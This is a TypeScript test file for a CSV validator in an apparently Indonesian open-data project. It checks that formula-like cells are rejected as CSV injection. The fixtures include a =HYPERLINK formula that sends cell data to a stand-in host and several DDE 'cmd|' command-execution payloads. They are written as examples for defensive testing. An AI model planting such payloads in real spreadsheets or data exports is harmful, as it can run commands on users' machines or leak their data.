/**
 * csv/formula: a dataset CSV is published with its original bytes, so a `teks` cell that a spreadsheet would run
 * as a formula (OWASP "CSV Injection") is refused at validation, while negative numbers in numeric columns and
 * the usual "no data" dash of statistics tables stay valid.
 */
import { describe, expect, it } from 'vitest';
import { formulaStart } from '../../src/lib/csv.ts';
import { csv } from '../../src/validate/rules/csv.ts';
import { OPD, problemsOf } from './scenario.ts';

const CSV = `${OPD}/data/jumlah-sekolah.csv`;
const HEADER = 'kode_wilayah;kecamatan;jumlah;rasio;terakreditasi;tanggal_data';
/** A valid row of the fixture's dataset with `kecamatan`, `jumlah` and `rasio` replaced. */
const row = (kecamatan: string, jumlah = '52', rasio = '18,5') => `33.21.01;${kecamatan};${jumlah};${rasio};ya;2025-12-31`;

describe('csv/formula', () => {
  it('is declared by the csv rule as an error', () => {
    expect(csv.checks).toContainEqual(expect.objectContaining({ id: 'csv/formula', severity: 'error' }));
  });

  it('refuses formula-like text cells at row and column, and says how to fix them', async () => {
    const rows = [
      row('=HYPERLINK("https://contoh.invalid/?d="&A1;"klik")'.replace(';', ',')),
      row('+cmd|\' /C calc\'!A0'),
      row('@SUM(1+1)*cmd|\' /C calc\'!A0'),
      row('-2+3+cmd|\' /C calc\'!A0'),
      row('  =1+1'),
      row('"Demak\n=HYPERLINK(""https://contoh.invalid"")"'),
      row('\uFF1DHYPERLINK("https://contoh.invalid")'),
    ];
    const problems = await problemsOf({ [CSV]: `${HEADER}\n${rows.join('\n')}\n` });
    expect(problems.map((p) => [p.rule, p.severity, p.line, p.column])).toEqual([
      ['csv/formula', 'error', 2, 2],
      ['csv/formula', 'error', 3, 2],
      ['csv/formula', 'error', 4, 2],
      ['csv/formula', 'error', 5, 2],
      ['csv/formula', 'error', 6, 2],
      ['csv/formula', 'error', 7, 2],
      ['csv/formula', 'error', 9, 2],
    ]);
    expect(problems[0].message).toContain('diawali tanda =');
    expect(problems[0].hint?.toLowerCase()).toContain('hapus tanda = di awal atau awali dengan tanda petik');
    expect(problems[1].hint).toContain('Hapus tanda + di awal');
    expect(problems[5].message).toContain('sesudah titik koma atau baris baru');
  });

  it('keeps negative numbers in numeric columns, the "no data" dash, dash sub-rows, phone numbers and quoted formulas valid', async () => {
    const rows = [
      row('Mranggen', '-5', '-2,5'),
      row('-'),
      row('- Laki-laki'),
      row('- lainnya'),
      row('+62 291 685877'),
      row('@pemkabdemak'),
      row("'=HYPERLINK(\"https://contoh.invalid\")"),
      row('Sayung - Demak'),
      row('Rasio 1:20 (naik)'),
    ];
    expect(await problemsOf({ [CSV]: `${HEADER}\n${rows.join('\n')}\n` })).toEqual([]);
  });

  it('leaves typed columns to csv/cell-type: a formula there is a wrong value, reported once', async () => {
    const problems = await problemsOf({ [CSV]: `${HEADER}\n${row('Mranggen', '-2+3+cmd|\' /C calc\'!A0')}\n` });
    expect(problems.map((p) => [p.rule, p.line, p.column])).toEqual([['csv/cell-type', 2, 3]]);
  });
});

describe('formulaStart', () => {
  it('finds the sign at the start of the cell or of a part after ; tab or a line break', () => {
    expect(formulaStart('=1+1')).toEqual({ sign: '=', inner: false });
    expect(formulaStart('\t=1+1')).toEqual({ sign: '=', inner: true });
    expect(formulaStart(' \u00A0=1+1')).toEqual({ sign: '=', inner: false });
    expect(formulaStart('aman;@SUM(A1)')).toEqual({ sign: '@', inner: true });
    expect(formulaStart('-HYPERLINK("x")')).toEqual({ sign: '-', inner: false });
    expect(formulaStart('-5')).toBeUndefined();
    expect(formulaStart('Kab. Demak')).toBeUndefined();
  });
});
